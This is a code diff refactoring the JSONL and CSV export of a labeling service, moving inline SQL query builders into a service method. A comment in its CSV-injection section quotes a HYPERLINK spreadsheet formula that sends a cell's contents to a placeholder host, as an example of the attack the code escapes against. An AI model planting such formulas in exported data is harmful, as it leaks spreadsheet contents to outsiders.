@@ -10,6 +10,7 @@ from collections.abc import AsyncIterator
 from typing import Any, Literal, TextIO
 
 from .service import quality
+from .service.items import ExportWhat
 from .service.labeling import LabelingService
 from .service.reports import Reports
 
@@ -67,52 +68,6 @@ async def rows(service: LabelingService, project: str, what: What) -> AsyncItera
             }
 
 
-# Results and answers are built by SQLite itself (json_object for JSONL): a million rows stream at
-# SQLite's speed instead of through a Python dict and json.dumps each.
-def _label_sql(kind: str, column: str) -> str:
-    if kind == "multi":
-        return f"json({column})"
-    if kind == "rating":
-        return (
-            f"CASE WHEN CAST({column} AS INTEGER) = CAST({column} AS REAL)"
-            f" THEN CAST({column} AS INTEGER) ELSE CAST({column} AS REAL) END"
-        )
-    return column
-
-
-_BOOL = "json(CASE WHEN {} THEN 'true' ELSE 'false' END)"
-_RESULTS_FROM = """FROM items i LEFT JOIN verdicts v ON v.item_id = i.id
-    WHERE i.project_id = :p AND i.gold IS NULL ORDER BY i.seq"""
-_ANSWERS_FROM = """FROM answers x JOIN items i ON i.id = x.item_id
-    JOIN annotators a ON a.id = x.annotator_id WHERE i.project_id = :p ORDER BY x.id"""
-_ISO = "strftime('%Y-%m-%dT%H:%M:%f', x.answered_at, 'unixepoch') || '+00:00'"
-_SQL = {
-    ("results", "jsonl"): """SELECT json_object('id', i.ext_id,
-        'label', CASE WHEN COALESCE(v.status, i.status) = 'resolved' THEN {label} END,
-        'status', COALESCE(v.status, i.status), 'confidence', ROUND(v.confidence, 4),
-        'votes', json(COALESCE(v.votes, '{{}}')), 'n_answers', COALESCE(v.n_answers, 0),
-        'method', COALESCE(v.method, :method)) """
-    + _RESULTS_FROM,
-    ("results", "csv"): """SELECT i.ext_id,
-        CASE WHEN COALESCE(v.status, i.status) = 'resolved' THEN v.label END,
-        COALESCE(v.status, i.status), ROUND(v.confidence, 4), COALESCE(v.votes, '{{}}'),
-        COALESCE(v.n_answers, 0), COALESCE(v.method, :method) """
-    + _RESULTS_FROM,
-    ("answers", "jsonl"): f"""SELECT json_object('item_id', i.ext_id, 'annotator', a.key,
-        'label', {{label}}, 'skipped', {_BOOL.format("x.value IS NULL")},
-        'is_gold', {_BOOL.format("x.is_gold")},
-        'correct', CASE WHEN x.correct IS NULL THEN NULL ELSE {_BOOL.format("x.correct")} END,
-        'seconds', ROUND(x.seconds, 3), 'answered_at', {_ISO}) """
-    + _ANSWERS_FROM,
-    ("answers", "csv"): f"""SELECT i.ext_id, a.key, x.value,
-        CASE WHEN x.value IS NULL THEN 'true' ELSE 'false' END,
-        CASE WHEN x.is_gold THEN 'true' ELSE 'false' END,
-        CASE x.correct WHEN 1 THEN 'true' WHEN 0 THEN 'false' END,
-        ROUND(x.seconds, 3), {_ISO} """
-    + _ANSWERS_FROM,
-}
-
-
 # -- CSV injection ---------------------------------------------------------------------------
 # A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as a formula:
 # a Slack answer =HYPERLINK("http://x/?"&A1,"x") came out live. In CSV such a cell gets a
@@ -158,21 +113,17 @@ def _csv_safe(batch: list[Any], columns: tuple[int, ...]) -> list[Any]:
 
 
 async def _sql_batches(
-    service: LabelingService, project: str, what: What, fmt: Format
+    service: LabelingService, project: str, what: ExportWhat, fmt: Format
 ) -> AsyncIterator[list[Any]]:
     """Rows in batches: one JSON text per row (jsonl) or a tuple of CSV cells."""
-    rules = service.rules[project]
-    if what == "results" and rules.method == "dawid-skene":
+    if what == "results" and service.rules[project].method == "dawid-skene":
         await quality.recompute(service, project)  # batch verdicts, fresh for the export
-    column = "v.label" if what == "results" else "x.value"
-    sql = _SQL[what, fmt].format(label=_label_sql(rules.kind, column))
-    params = {"p": service.pids[project], "method": rules.method}
-    async for batch in service.db.stream_batches(sql, params):
+    async for batch in service.export_batches(project, what, fmt):
         yield batch
 
 
 async def _sql_export(
-    service: LabelingService, project: str, what: What, fmt: Format, out: TextIO
+    service: LabelingService, project: str, what: ExportWhat, fmt: Format, out: TextIO
 ) -> int:
     n = 0
     if fmt == "jsonl":
